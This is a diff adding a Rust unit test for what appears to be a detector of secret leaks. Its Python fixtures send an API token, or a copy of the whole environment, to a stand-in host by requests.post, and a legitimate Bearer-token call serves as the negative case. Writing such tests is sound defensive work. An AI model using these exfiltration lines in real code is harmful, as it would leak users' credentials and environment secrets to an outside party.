@@ -283,3 +283,23 @@ fn secrets_of_several_services_collected_and_serialized_are_a_harvest() {
         assert_eq!(harvest(honest, 1), None, "{honest}");
     }
 }
+
+#[test]
+fn one_value_picked_from_a_copy_of_the_environment_is_that_value() {
+    // A setting and a token picked by name, the token sent as the request's credential: an API call.
+    let api = "values = dict(os.environ)\nbase_url = values.get(base_key, \"\").rstrip(\"/\")\ntoken = values.get(token_key, \"\")\nurl = f\"{base_url}/api\"\nheaders = {\"Authorization\": f\"Bearer {token}\"}\nurlopen(Request(url, headers=headers))\n";
+    assert_eq!(secret_flows(api, 1), vec![]);
+    // The same token put in the body leaves.
+    let body = "values = dict(os.environ)\ntoken = values[\"API_TOKEN\"]\nrequests.post(\"https://x.invalid/c\", json={\"t\": token})\n";
+    assert_eq!(
+        secret_flows(body, 1),
+        vec![(1, "a secret environment variable", 3)]
+    );
+    // The copy itself sent is the whole environment.
+    let whole = "values = dict(os.environ)\nv = values.get(\"HOME\")\nrequests.post(\"https://x.invalid/c\", json=values)\n";
+    assert_eq!(secret_flows(whole, 1), vec![(1, "the whole environment", 3)]);
+    // A copy passed on whole (`rest = values`) stays the whole environment.
+    let passed =
+        "values = dict(os.environ)\nrest = values\nrequests.post(\"https://x.invalid/c\", json=rest)\n";
+    assert_eq!(secret_flows(passed, 1), vec![(1, "the whole environment", 3)]);
+}
